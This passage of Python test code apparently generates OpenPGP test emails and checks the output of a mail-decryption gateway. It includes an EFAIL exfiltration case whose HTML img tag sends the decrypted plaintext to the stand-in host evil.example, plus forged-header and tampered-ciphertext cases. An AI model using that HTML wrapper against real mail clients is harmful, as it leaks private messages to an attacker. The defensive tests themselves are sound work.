                 f"From: {HDR_FROM}\nTo: {HDR_TO}\nDate: {DATE}\n"
                 f"Subject: RFC 9788 real subject\nMessage-ID: <inner.9788@example.org>\n"
                 f"HP-Outer: From: {HDR_FROM}\nHP-Outer: To: {HDR_TO}\nHP-Outer: Date: {DATE}\n"
                 f"HP-Outer: Subject: [...]\nHP-Outer: Message-ID: <outer.9788@example.org>\n\n"
                 f'--{b}\nContent-Type: text/plain; charset=us-ascii; hp-legacy-display="1"\n\n'
                 f"Subject: RFC 9788 real subject\n\n"
                 f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\n{BODY_EN}\n"
                 f"--{b}--\n").encode()
        return self._pgp_mime_case("rfc9788", "RFC 9788 hp=cipher, HP-Outer, hp-legacy-display part",
                                   inner, subject="[...]", msgid="<outer.9788@example.org>")

    def pgp_mime_cte(self, cte):
        inner = ("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
                 + BODY_UTF8).encode()
        return self._pgp_mime_case(f"pgp-mime-{cte}", f"PGP/MIME, octet-stream in {cte}",
                                   inner, subject=SUBJECT, cte=cte)

    def pgp_mime_signed_encrypted(self):
        inner = ("Content-Type: text/plain; charset=utf-8\n\n" + BODY_UTF8).encode()
        c = self._pgp_mime_case("pgp-mime-sign-encrypt", "PGP/MIME, gpg --sign --encrypt (RFC 3156 6.2)",
                                inner, subject=SUBJECT, sign=True)
        return c

    def pgp_mime_inner_signed(self):
        b = self.boundary("sig")
        signed = crlf(("Content-Type: text/plain; charset=utf-8\n"
                       "Content-Transfer-Encoding: quoted-printable\n\n").encode()
                      + qp(BODY_UTF8.encode()))
        sig = self.sender("--armor", "--detach-sign", "--digest-algo", "SHA256", "-u",
                          self.alice_fpr, "-o", "-", input=signed).stdout
        inner = crlf((f'Content-Type: multipart/signed; micalg=pgp-sha256;\n'
                      f' protocol="application/pgp-signature"; boundary="{b}"\n\n'
                      f"This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\n"
                      f"--{b}\n").encode() + signed +
                     (f"\n--{b}\nContent-Type: application/pgp-signature; name=\"OpenPGP_signature.asc\"\n"
                      f"Content-Description: OpenPGP digital signature\n"
                      f'Content-Disposition: attachment; filename="OpenPGP_signature"\n\n').encode()
                     + sig + f"\n--{b}--\n".encode())
        c = self._pgp_mime_case("pgp-mime-inner-signed",
                                "multipart/signed inside PGP/MIME encryption (Thunderbird sign+encrypt)",
                                inner, subject=SUBJECT, thunderbird=True, line_ending="crlf")
        assert lf(c.expected.body.signed_entity) == lf(signed)
        c.signature = sig
        return c

    # -- inline PGP

    def inline(self, cte="7bit", charset="us-ascii", blocks=1, line_ending="lf", name=None):
        text = {"us-ascii": "Top secret figures: 42, 17, 99.\n",
                "utf-8": BODY_UTF8, "iso-8859-1": BODY_LATIN1}[charset]
        plains = [text.encode(charset)] + [f"Block {i + 2}: {text}".encode(charset)
                                           for i in range(blocks - 1)]
        arms = [self.encrypt(p) for p in plains]
        before = {"us-ascii": "Hi Bob,\n\nsee below.\n\n", "utf-8": "Hallo B\u00f6b,\n\n",
                  "iso-8859-1": "Hallo B\u00f6b,\n\n"}[charset]
        after = "\nRegards,\nAlice\n"
        parts_in, parts_out = [before], [before]
        for i, (p, a) in enumerate(zip(plains, arms)):
            if i:
                parts_in.append("\nand the second one:\n\n")
                parts_out.append("\nand the second one:\n\n")
            parts_in.append(a.decode())
            parts_out.append(p.decode(charset))
        parts_in.append(after)
        parts_out.append(after)
        body_in = "".join(parts_in).encode(charset)
        ctl = "" if cte == "7bit" else f"Content-Transfer-Encoding: {cte}\n"
        raw = self.headers(subject="Inline " + charset) + \
            f"Content-Type: text/plain; charset={charset}\n{ctl}\n".encode() + encode_body(body_in, cte)
        if line_ending == "crlf":
            raw = crlf(raw)
        nm = name or f"inline-{cte}-{charset}" + (f"-{blocks}blocks" if blocks > 1 else "")
        c = self._mk(nm, raw, [Piece("inline", a, p) for p, a in zip(plains, arms)],
                     f"inline PGP in text/plain, {cte}, {charset}, {blocks} block(s), {line_ending}")
        # cross-check of expected_body against the text built by hand
        if _nl(c.expected.body.text).rstrip("\n") != "".join(parts_out).rstrip("\n"):
            raise AssertionError(f"{nm}: {c.expected.body.text!r} != {''.join(parts_out)!r}")
        return c

    # -- attachments

    def pdf_bytes(self):
        r = random.Random(1)
        return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + r.randbytes(6000) + b"\r\n%%EOF\n"

    def csv_bytes(self):
        return b"".join(b"%d,item-%d,%d.%02d\n" % (i, i, i * 7, i % 100) for i in range(200))

    def attachments(self):
        b = self.boundary("mix")
        pdf, csv = self.pdf_bytes(), self.csv_bytes()
        notes = "Notes \u2013 meeting\nline 2\n".encode()
        pdf_ct = self.encrypt(pdf, armored=False)
        csv_ct = self.encrypt(csv, armored=False)
        notes_ct = self.encrypt(notes)
        raw = self.headers(subject="Encrypted attachments") + \
            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
            (f"--{b}\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
             f"{BODY_UTF8}\n"
             f'--{b}\nContent-Type: application/octet-stream; name="report.pdf.pgp"\n'
             f'Content-Disposition: attachment; filename="report.pdf.pgp"\n'
             f"Content-Transfer-Encoding: base64\n\n").encode() + b64(pdf_ct) + \
            (f"\n--{b}\nContent-Type: application/octet-stream; name=\"data.csv.gpg\"\n"
             f'Content-Disposition: attachment; filename="data.csv.gpg"\n'
             f"Content-Transfer-Encoding: base64\n\n").encode() + b64(csv_ct) + \
            (f"\n--{b}\nContent-Type: application/pgp-encrypted; name=\"notes.txt.asc\"\n"
             f'Content-Disposition: attachment; filename="notes.txt.asc"\n\n').encode() + notes_ct + \
            f"\n--{b}--\n".encode()
        c = self._mk("attachments", raw,
                     [Piece("attachment", pdf_ct, pdf), Piece("attachment", csv_ct, csv),
                      Piece("attachment", notes_ct, notes)],
                     "text body + report.pdf.pgp (binary, base64), data.csv.gpg, notes.txt.asc (armored)")
        # cross-check against the expectation written by hand
        want = Multi("multipart/mixed", [
            Leaf(("text/plain",), text=BODY_UTF8, charset="utf-8"),
            Leaf(("application/pdf", "application/octet-stream"), data=pdf, filename="report.pdf",
                 decrypted=True),
            Leaf(("text/csv", "text/plain", "application/octet-stream"), data=csv,
                 filename="data.csv", decrypted=True),
            Leaf(("text/plain", "application/octet-stream"), data=notes, filename="notes.txt",
                 decrypted=True)])
        assert c.expected.body == want, (c.expected.body, want)
        return c

    def inline_with_attachment(self):
        b = self.boundary("mix")
        secret = "The inline secret.\n"
        pdf = self.pdf_bytes()
        arm = self.encrypt(secret.encode())
        pdf_ct = self.encrypt(pdf, armored=False)
        raw = self.headers(subject="Inline and attachment") + \
            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
            f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\nBefore.\n\n".encode() + arm + \
            (f"\nAfter.\n\n--{b}\nContent-Type: application/octet-stream; name=\"report.pdf.pgp\"\n"
             f'Content-Disposition: attachment; filename="report.pdf.pgp"\n'
             f"Content-Transfer-Encoding: base64\n\n").encode() + b64(pdf_ct) + f"\n--{b}--\n".encode()
        c = self._mk("inline-and-attachment", raw,
                     [Piece("inline", arm, secret.encode()), Piece("attachment", pdf_ct, pdf)],
                     "multipart/mixed: inline block in text/plain next to report.pdf.pgp")
        # the whole-body rule: the text is one part of several, left encrypted
        assert ARMOR_BEGIN in c.expected.body.children[0].text and c.expected.embedded == 1
        return c

    def nested_rfc822(self):
        inner = ("Content-Type: text/plain; charset=utf-8\n\n" + BODY_UTF8).encode()
        head, body, ct = self.pgp_mime(inner)
        emb = self.headers(subject="Forwarded encrypted", msgid="<emb.1@example.org>") + head + b"\n" + body
        b = self.boundary("fwd")
        raw = self.headers(subject="Fwd: Forwarded encrypted") + \
            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
            f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\nForwarding this.\n\n".encode() + \
            (f"--{b}\nContent-Type: message/rfc822\nContent-Disposition: attachment\n\n").encode() + \
            emb + f"\n--{b}--\n".encode()
        return self._mk("nested-rfc822", raw, [Piece("pgp-mime", ct, inner)],
                        "multipart/mixed with a PGP/MIME mail attached as message/rfc822")

    def nested_subpart(self):
        b2 = self.boundary("in")
        inner = (f'Content-Type: multipart/mixed; boundary="{b2}"\n\n'
                 f"--{b2}\nContent-Type: text/plain; charset=us-ascii\n\n{BODY_EN}\n"
                 f"--{b2}\nContent-Type: text/csv\nContent-Disposition: attachment; filename=\"a.csv\"\n\n"
                 ).encode() + self.csv_bytes() + f"\n--{b2}--\n".encode()
        head, body, ct = self.pgp_mime(inner, cte="base64")
        b = self.boundary("out")
        raw = self.headers(subject=SUBJECT) + \
            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
            f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\nPlain intro.\n\n--{b}\n".encode() + \
            head + b"\n" + body + f"\n--{b}--\n".encode()
        return self._mk("nested-subpart", raw, [Piece("pgp-mime", ct, inner)],
                        "multipart/mixed with a multipart/encrypted subpart (base64 octet-stream)")

    def inline_sign_encrypt(self):
        p = "Signed and encrypted inline.\n".encode()
        arm = self.encrypt(p, sign=True)
        raw = self.headers(subject="Signed inline") + \
            b"Content-Type: text/plain; charset=us-ascii\n\n" + arm
        return self._mk("inline-sign-encrypt", raw, [Piece("inline", arm, p)],
                        "inline PGP, gpg --sign --encrypt")

    # -- negative and pass-through

    def foreign_key(self):
        arm = self.encrypt(BODY_EN.encode(), to=[self.alice_fpr])
        raw = self.headers(subject="For Alice only") + \
            b"Content-Type: text/plain; charset=us-ascii\n\n" + arm
        return self._mk("foreign-key", raw, [Piece("inline", arm, None, "no-key")],
                        "inline PGP for a foreign key only")

    def foreign_key_pgp_mime(self):
        inner = b"Content-Type: text/plain\n\nnot for us\n"
        b = self.boundary("enc")
        ct = self.encrypt(inner, to=[self.alice_fpr])
        raw = self.headers(subject="...") + self._pgp_mime_around(b, ct)
        return self._mk("foreign-key-pgp-mime", raw, [Piece("pgp-mime", ct, None, "no-key")],
                        "PGP/MIME for a foreign key only")

    def partly(self):
        mine, theirs = b"For the gateway.\n", b"For Alice only.\n"
        a1, a2 = self.encrypt(mine), self.encrypt(theirs, to=[self.alice_fpr])
        raw = self.headers(subject="Partly") + \
            b"Content-Type: text/plain; charset=us-ascii\n\nFirst:\n\n" + a1 + b"\nSecond:\n\n" + a2
        return self._mk("partly", raw, [Piece("inline", a1, mine), Piece("inline", a2, None, "no-key")],
                        "one text/plain body, two blocks: one for the test key, one for a foreign key")

    def partly_mixed(self):
        b = self.boundary("mix")
        mine, theirs = b"For the gateway.\n", b"For Alice only.\n"
        a1, a2 = self.encrypt(mine), self.encrypt(theirs, to=[self.alice_fpr])
        raw = self.headers(subject="Partly") + \
            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
            f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\n".encode() + a1 + \
            f"\n--{b}\nContent-Type: text/plain; charset=us-ascii\n\n".encode() + a2 + \
            f"\n--{b}--\n".encode()
        c = self._mk("partly-mixed", raw, [Piece("inline", a1, mine), Piece("inline", a2, None, "no-key")],
                     "two text/plain parts with a block each: neither is the whole body, both left")
        assert c.expected.outcome == "embedded" and c.expected.embedded == 2
        return c

    # -- EFAIL direct exfiltration: a captured ciphertext mailed to its
    # recipient between two HTML parts of the sender's; a reader that joins
    # the parts would send the plaintext to evil.example.  Left encrypted.

    EVIL_OPEN = '<html><body><img src="http://evil.example/x?'
    EVIL_CLOSE = '"></body></html>'

    def _efail(self, name, middle: bytes, pieces, layout):
        b = self.boundary("efail")
        raw = self.headers(subject="Invoice") + \
            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
            f"--{b}\nContent-Type: text/html\n\n{self.EVIL_OPEN}\n--{b}\n".encode() + middle + \
            f"\n--{b}\nContent-Type: text/html\n\n{self.EVIL_CLOSE}\n--{b}--\n".encode()
        c = self._mk(name, raw, pieces, layout)
        assert c.expected.outcome == "embedded" and c.expected.unchanged
        return c

    def efail_pgp_mime(self):
        inner = b"Content-Type: text/plain\n\nThe board meets on Friday.\n"
        head, body, ct = self.pgp_mime(inner)
        return self._efail("efail-pgp-mime", head + b"\n" + body, [Piece("pgp-mime", ct, inner)],
                           "EFAIL: a PGP/MIME part between two text/html parts")

    def efail_inline(self):
        p = b"The board meets on Friday.\n"
        arm = self.encrypt(p)
        return self._efail("efail-inline", b"Content-Type: text/plain\n\n" + arm,
                           [Piece("inline", arm, p)],
                           "EFAIL: an inline block in a text/plain part between two text/html parts")

    def password(self):
        arm = self.symmetric(b"password protected\n")
        raw = self.headers(subject="Password") + \
            b"Content-Type: text/plain; charset=us-ascii\n\n" + arm
        return self._mk("password-inline", raw, [Piece("inline", arm, None, "password")],
                        "inline gpg -c (password only): the daemon has no password")

    def tampered(self):
        binary = self.encrypt(("Tamper target. " * 20 + "\n").encode(), armored=False,
                              extra=("--compress-algo", "none"))
        arm = armor(tamper(binary))
        raw = self.headers(subject="Tampered") + \
            b"Content-Type: text/plain; charset=us-ascii\n\nBefore.\n\n" + arm + b"\nAfter.\n"
        return self._mk("tampered", raw, [Piece("inline", arm, None, "integrity")],
                        "inline SEIPD v1 with a flipped ciphertext octet (MDC fails)")

    def tampered_pgp_mime(self):
        inner = b"Content-Type: text/plain\n\n" + b"tampered entity line\n" * 20
        binary = self.encrypt(inner, armored=False, extra=("--compress-algo", "none"))
        arm = armor(tamper(binary))
        b = self.boundary("enc")
        raw = self.headers(subject="...") + self._pgp_mime_around(b, arm)
        return self._mk("tampered-pgp-mime", raw, [Piece("pgp-mime", arm, None, "integrity")],
                        "PGP/MIME with a flipped ciphertext octet")

    def garbage(self):
        arm = armor(b"This is not an OpenPGP message at all, only text.\n")
        raw = self.headers(subject="Garbage") + \
            b"Content-Type: text/plain; charset=us-ascii\n\n" + arm
        return self._mk("garbage-armor", raw, [Piece("inline", arm, None, "malformed")],
                        "an armored block whose content is no OpenPGP packet")

    def plain(self):
        b = self.boundary("alt")
        raw = self.headers(subject=SUBJECT) + \
            (f'Content-Type: multipart/alternative; boundary="{b}"\n\n'
             f"--{b}\nContent-Type: text/plain; charset=utf-8\n"
             f"Content-Transfer-Encoding: quoted-printable\n\n").encode() + qp(BODY_UTF8.encode()) + \
            (f"\n--{b}\nContent-Type: text/html; charset=utf-8\n\n{HTML}\n--{b}--\n").encode()
        return self._mk("plain", raw, [], "plain multipart/alternative mail")

    def forged(self):
        c = self.mutt()
        forged = (b"X-Pgpdecd-Status: decrypted; pieces=9; decrypted=9; no-key=0; failed=0\n"
                  b"X-Pgpdecd-Key: 0000000000000000000000000000000000000000\n"
                  b"X-PGPDECD-Integrity: aead\nX-Pgpdecd-Signatures: verified\n")
        return self._mk("forged-headers", forged + c.raw, c.pieces,
                        "Mutt PGP/MIME with forged X-Pgpdecd-* headers on top")

    def forged_plain(self):
        raw = b"X-Pgpdecd-Status: decrypted; pieces=1; decrypted=1; no-key=0; failed=0\n" + \
            b"X-Pgpdecd-Key: " + KEY_FPR.encode() + b"\n" + \
            self.headers(subject="plain") + b"Content-Type: text/plain\n\nnothing secret\n"
        return self._mk("forged-headers-plain", raw, [], "plain mail with forged X-Pgpdecd-* headers")

    # -- all of them

    def cases(self):
        if self._cases is None:
            cs = [self.thunderbird(), self.thunderbird_attachment(), self.enigmail_legacy(),
                  self.mutt(), self.mutt_attachment(), self.evolution(), self.k9(),
                  self.deltachat(), self.rfc9788()]
            cs += [self.pgp_mime_cte(e) for e in ("7bit-explicit", "base64", "quoted-printable")]
            cs += [self.pgp_mime_signed_encrypted(), self.pgp_mime_inner_signed()]
            for cte in ("7bit", "8bit", "quoted-printable", "base64"):
                for cs_ in ("us-ascii", "utf-8", "iso-8859-1"):
                    if cte == "7bit" and cs_ != "us-ascii":
                        continue
                    cs.append(self.inline(cte, cs_))
            cs.append(self.inline("quoted-printable", "utf-8", blocks=2))
            cs.append(self.inline("base64", "iso-8859-1", blocks=2))
            cs.append(self.inline("8bit", "utf-8", name="inline-crlf", line_ending="crlf"))
            cs.append(self.inline("8bit", "utf-8", name="inline-lf", line_ending="lf"))
            tb = self.thunderbird()
            tb_lf = self._mk("thunderbird-lf", lf(tb.raw),
                             [Piece(p.kind, p.ciphertext, p.plaintext, p.error) for p in tb.pieces],
                             "Thunderbird 115 layout with LF line endings")
            cs.append(tb_lf)
            cs += [self.attachments(), self.inline_with_attachment(), self.nested_rfc822(),
                   self.nested_subpart(), self.inline_sign_encrypt(), self.foreign_key(),
                   self.foreign_key_pgp_mime(), self.partly(), self.partly_mixed(),
                   self.efail_pgp_mime(), self.efail_inline(), self.password(), self.tampered(),
                   self.tampered_pgp_mime(), self.garbage(), self.plain(), self.forged(),
                   self.forged_plain()]
            names = [c.name for c in cs]
            assert len(names) == len(set(names)), names
            self._cases = cs
        return self._cases

    def case(self, name):
        return next(c for c in self.cases() if c.name == name)

    # -- large mail

    def large_mail(self, path, total_size=100 * 1000 * 1000, attachment_size=60 * 1000 * 1000,
                   seed=60):
        """Write to path a mail of about total_size octets (at least the
        encrypted attachment) with a plaintext attachment of attachment_size
        octets encrypted (binary, base64) as big.bin.pgp, a text body, and a
        plain filler attachment (filler.bin) to reach total_size.  Streamed:
        memory stays bounded.  Returns a Case (raw None, path set) whose
        expected leaves carry sha256 and size."""
        path = Path(path)
        b = self.boundary("big")
        h_plain, h_fill = hashlib.sha256(), hashlib.sha256()
        rnd = random.Random(seed)
        chunk = 1 << 20
        with open(path, "wb") as out:
            out.write(self.headers(subject="Large mail") +
                      f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() +
                      f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\n{BODY_EN}\n".encode() +
                      (f"--{b}\nContent-Type: application/octet-stream; name=\"big.bin.pgp\"\n"
                       f'Content-Disposition: attachment; filename="big.bin.pgp"\n'
                       f"Content-Transfer-Encoding: base64\n\n").encode())
            p = subprocess.Popen(self.sender.cmd("--passphrase", "", "-z", "0", "-r",
                                                 KEY_FPR + "!", "--encrypt", "-o", "-"),
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 stderr=subprocess.DEVNULL, env=self.sender.env)

            def feed():
                left = attachment_size
                while left:
                    n = min(chunk, left)
                    d = rnd.randbytes(n)
                    h_plain.update(d)
                    p.stdin.write(d)
                    left -= n
                p.stdin.close()

            t = threading.Thread(target=feed)
            t.start()
            rest = b""
            while True:
                d = p.stdout.read(57 * 1024)
                if not d:
                    break
                d = rest + d
                k = len(d) - len(d) % 57
                out.write(b64(d[:k]))
                rest = d[k:]
            if rest:
                out.write(b64(rest))
            t.join()
            if p.wait() != 0:
                raise RuntimeError("gpg --encrypt failed")
            out.write(f"\n--{b}\nContent-Type: application/octet-stream; name=\"filler.bin\"\n"
                      f'Content-Disposition: attachment; filename="filler.bin"\n'
                      f"Content-Transfer-Encoding: base64\n\n".encode())
            closing = f"\n--{b}--\n".encode()
            left = max(0, (total_size - out.tell() - len(closing)) * 57 // 77)
            fill_size = left
            frnd = random.Random(seed + 1)
            while left:
                n = min(57 * 18396, left)
                d = frnd.randbytes(n)
                h_fill.update(d)
                out.write(b64(d))
                left -= n
            out.write(closing)
        body = Multi("multipart/mixed", [
            Leaf(("text/plain",), text=BODY_EN + "\n", charset="us-ascii"),
            Leaf(("application/octet-stream",), sha256=h_plain.hexdigest(), size=attachment_size,
                 filename="big.bin", decrypted=True),
            Leaf(("application/octet-stream",), sha256=h_fill.hexdigest(), size=fill_size,
                 filename="filler.bin")])
        exp = Expected("decrypted", pieces=1, decrypted=1, keys=(KEY_FPR,), integrity="mdc",
                       body=body)
        return Case(f"large-{total_size}-{attachment_size}", None, exp, [],
                    f"{total_size} octet mail, {attachment_size} octet encrypted attachment",
                    path=path)


# --------------------------------------------------------------------------
# The checker

def _norm(v) -> str:
    return re.sub(r"\s+", " ", str(v)).strip()


def _nl(s):
    return s.replace("\r\n", "\n") if isinstance(s, str) else s.replace(b"\r\n", b"\n")


def _headers_list(msg):
    return [(k.lower(), _norm(v)) for k, v in msg.items()]


def _fail(path, what):
    raise AssertionError(f"{path}: {what}")


def _split_headers(raw: bytes):
    m = re.search(rb"\r?\n\r?\n", raw)
    return (raw, b"") if not m else (raw[:m.start()], raw[m.end():])


def _first_signed_part(raw: bytes, boundary: str):
    """The raw first body part of the multipart/signed with this boundary
    (line endings LF)."""
    t = lf(raw)
    d = b"--" + boundary.encode()
    i = t.find(d + b"\n")
    if i < 0:
        return None
    i += len(d) + 1
    j = t.find(b"\n" + d, i)
    return t[i:j] if j >= 0 else None


def _cmp(node, part, path, raw):
    ct = part.get_content_type()
    if isinstance(node, Rfc822):
        if ct != "message/rfc822":
            _fail(path, f"content type {ct}, expected message/rfc822")
        inner = part.get_payload()[0]
        for k, v in node.headers.items():
            got = [_norm(x) for x in inner.get_all(k, [])]
            if got != [_norm(v)]:
                _fail(path, f"embedded message {k}: {got}, expected [{_norm(v)!r}]")
        _cmp(node.body, inner, path + "/message", raw)
        return
    if isinstance(node, Multi):
        if ct != node.ctype:
            _fail(path, f"content type {ct}, expected {node.ctype}")
        kids = list(part.iter_parts())
        want = [_desc(c) for c in node.children]
        got = [c.get_content_type() for c in kids]
        if len(kids) != len(node.children):
            _fail(path, f"{len(kids)} parts {got}, expected {len(node.children)} {want}")
        for i, (n, p) in enumerate(zip(node.children, kids)):
            _cmp(n, p, f"{path}/{i + 1}", raw)
        if node.signed_entity is not None:
            got = _first_signed_part(raw, part.get_boundary() or "")
            if got is None or got.rstrip(b"\n") != lf(node.signed_entity).rstrip(b"\n"):
                _fail(path, "the signed entity of multipart/signed is not byte-exact "
                      f"(got {got[:200] if got else None!r})")
        return
    if ct not in node.ctypes:
        _fail(path, f"content type {ct}, expected one of {node.ctypes}")
    fn = part.get_filename()
    if fn != node.filename:
        _fail(path, f"filename {fn!r}, expected {node.filename!r}")
    data = part.get_payload(decode=True) or b""
    if node.text is not None:
        cs = part.get_content_charset() or "us-ascii"
        if _charset_name(cs) != _charset_name(node.charset):
            _fail(path, f"charset {cs}, expected {node.charset}")
        try:
            text = data.decode(cs)
        except UnicodeDecodeError as e:
            _fail(path, f"text not valid {cs}: {e}")
        if _nl(text) != _nl(node.text):
            _fail(path, f"text differs:\n got      {_nl(text)[:600]!r}\n expected {_nl(node.text)[:600]!r}")
    elif node.data is not None:
        d, w = data, node.data
        # text, and armored signatures (their line ends are canonicalised
        # to CRLF by the verifier), may change line ends in transport
        if part.get_content_maintype() == "text" or \
                part.get_content_type() == "application/pgp-signature":
            d, w = _nl(d), _nl(w)
        if d != w:
            _fail(path, f"payload differs: {len(data)} octets sha256 {hashlib.sha256(data).hexdigest()[:16]}, "
                  f"expected {len(node.data)} octets sha256 {hashlib.sha256(node.data).hexdigest()[:16]}")
    elif node.sha256 is not None:
        if len(data) != node.size or hashlib.sha256(data).hexdigest() != node.sha256:
            _fail(path, f"payload: {len(data)} octets sha256 {hashlib.sha256(data).hexdigest()}, "
                  f"expected {node.size} sha256 {node.sha256}")
    if node.decrypted and ARMOR_BEGIN.encode() in data:
        _fail(path, "an armored PGP message remains where decryption was expected")


def _desc(n):
    return n.ctype if isinstance(n, Multi) else ("message/rfc822" if isinstance(n, Rfc822)
                                                  else n.ctypes[0])


def expected_headers(case, header_policy="default"):
    """The non-MIME, non-result header fields the delivered message must
    carry: [(lowercase name, value)]."""
    orig = parse(case.read() if case.raw is not None else _split_headers(
        case.path.open("rb").read(1 << 20))[0] + b"\n\n")
    hs = [(k, v) for k, v in _headers_list(orig)
          if not k.startswith("content-") and k != "mime-version" and not k.startswith("x-pgpdecd-")]
    prot = {k.lower(): _norm(v) for k, v in case.expected.protected.items()}
    if header_policy == "all":
        repl = {k: v for k, v in prot.items() if k in PROMOTABLE}
    elif header_policy == "default":
        repl = {k: v for k, v in prot.items() if k == "subject"}
    else:
        raise ValueError(header_policy)
    out = []
    for k, v in hs:
        if k in repl:
            if repl[k] is not None:
                out.append((k, repl[k]))
                repl[k] = None
        else:
            out.append((k, v))
    out += [(k, v) for k, v in repl.items() if v is not None]
    return out


def check_delivered(case, delivered, failure_policy="pass", header_policy="default"):
    """Compare a delivered message (bytes, or a path) with case.expected.
    failure_policy: "pass" or "reject" (a case with failed pieces must then
    not be delivered: pass delivered=None).  header_policy: "default"
    (protected Subject only) or "all".  Raises AssertionError naming the
    first difference."""
    exp = case.expected
    if exp.exit_code(failure_policy) != 0:
        if delivered:
            _fail(case.name, f"delivered although the policy is {failure_policy} and "
                  f"{exp.failed} piece(s) failed")
        return
    if delivered is None:
        _fail(case.name, "not delivered")
    if isinstance(delivered, (str, Path)):
        with open(delivered, "rb") as f:
            msg = BytesParser(policy=email_policy.default).parse(f)
        raw = Path(delivered).read_bytes() if exp.signed_entity_needed() else b""
    else:
        raw = delivered
        msg = parse(raw)
    name = case.name
    # result headers
    want = {}
    for k, v in exp.result_headers():
        want.setdefault(k.lower(), []).append(_norm(v))
    got = {}
    for k, v in msg.items():
        if k.lower().startswith("x-pgpdecd-"):
            got.setdefault(k.lower(), []).append(_norm(v))
    for k in sorted(set(want) | set(got)):
        g, w = got.get(k, []), want.get(k, [])
        if k == "x-pgpdecd-key":
            g, w = sorted(x.upper() for x in g), sorted(w)
        if g != w:
            _fail(name, f"header {k}: {g}, expected {w}")
    # other header fields
    wh = expected_headers(case, header_policy)
    gh = [(k, v) for k, v in _headers_list(msg)
          if not k.startswith("content-") and k != "mime-version" and not k.startswith("x-pgpdecd-")
          and k not in MTA_HEADERS]
    wn = sorted(set(k for k, _ in wh))
    gn = sorted(set(k for k, _ in gh))
    if wn != gn:
        _fail(name, f"header fields {gn}, expected {wn} (policy {header_policy})")
    for k in wn:
        g = [v for n, v in gh if n == k]
        w = [v for n, v in wh if n == k]
        if g != w:
            _fail(name, f"header {k}: {g}, expected {w} (policy {header_policy})")
    # body
    if exp.unchanged:
        ob = lf(_split_headers(case.read())[1])
        db = lf(_split_headers(raw)[1])
        if ob != db:
            _fail(name, f"body changed ({len(db)} octets, expected the original {len(ob)})")
    _cmp(exp.body, msg, name, raw)
    if exp.outcome == "decrypted":
        # a path is scanned in chunks (large mails: raw is not read there)
        left = _file_contains(delivered, ARMOR_BEGIN.encode()) if isinstance(delivered, (str, Path)) \
            else ARMOR_BEGIN.encode() in raw
        if left:
            _fail(name, "an armored PGP message remains in a fully decrypted mail")


def _file_contains(path, needle: bytes, chunk=1 << 20) -> bool:
    with open(path, "rb") as f:
        tail = b""
        while True:
            block = f.read(chunk)
            if not block:
                return False
            block = tail + block
            if needle in block:
                return True
            tail = block[-(len(needle) - 1):]


def _signed_needed(self):
    def walk(n):
        if isinstance(n, Multi):
            return n.signed_entity is not None or any(walk(c) for c in n.children)
        if isinstance(n, Rfc822):
            return walk(n.body)
        return False
    return self.unchanged or walk(self.body)


Expected.signed_entity_needed = _signed_needed


# --------------------------------------------------------------------------
# An ideal output

def _render(node, rnd) -> bytes:
    if isinstance(node, Rfc822):
        hs = "".join(f"{k}: {v}\n" for k, v in node.headers.items())
        return b"Content-Type: message/rfc822\n\n" + hs.encode() + _render(node.body, rnd)
    if isinstance(node, Multi):
        b = f"ideal{rnd.getrandbits(48):012x}"
        prot = '; protocol="application/pgp-signature"' if node.signed_entity is not None else ""
        out = f'Content-Type: {node.ctype}{prot}; boundary="{b}"\n\n'.encode()
        for i, c in enumerate(node.children):
            body = lf(node.signed_entity) if i == 0 and node.signed_entity is not None \
                else _render(c, rnd)
            out += f"--{b}\n".encode() + body + b"\n"
        return out + f"--{b}--\n".encode()
    fn = f'\nContent-Disposition: attachment; filename="{node.filename}"' if node.filename else ""
    if node.text is not None:
        return (f"Content-Type: {node.ctypes[0]}; charset=\"{node.charset}\"{fn}\n"
                f"Content-Transfer-Encoding: base64\n\n").encode() + b64(node.text.encode(node.charset))
    assert node.data is not None, "render_ideal: no data for a large leaf"
    return (f"Content-Type: {node.ctypes[0]}{fn}\nContent-Transfer-Encoding: base64\n\n").encode() \
        + b64(node.data)


def render_ideal(case, header_policy="default") -> bytes:
    """A message a correct decryptor could deliver for case (LF)."""
    exp = case.expected
    hs = "".join(f"{k}: {v}\n" for k, v in exp.result_headers())
    from email.header import Header
    for k, v in expected_headers(case, header_policy):
        k = {"message-id": "Message-ID", "mime-version": "MIME-Version"}.get(k, k.title())
        hs += f"{k}: {Header(v, 'utf-8').encode() if not v.isascii() else v}\n"
    if exp.unchanged:
        return hs.encode() + b"MIME-Version: 1.0\n" + _content_headers(case.read()) + b"\n" + \
            lf(_split_headers(case.read())[1])
    return hs.encode() + b"MIME-Version: 1.0\n" + _render(exp.body, random.Random(9788))


def _content_headers(raw):
    head = lf(_split_headers(raw)[0]) + b"\n"
    out, keep = b"", False
    for line in head.splitlines(keepends=True):
        if line[:1] in (b" ", b"\t"):
            if keep:
                out += line
            continue
        keep = line.lower().startswith(b"content-")
        if keep:
            out += line
    return out
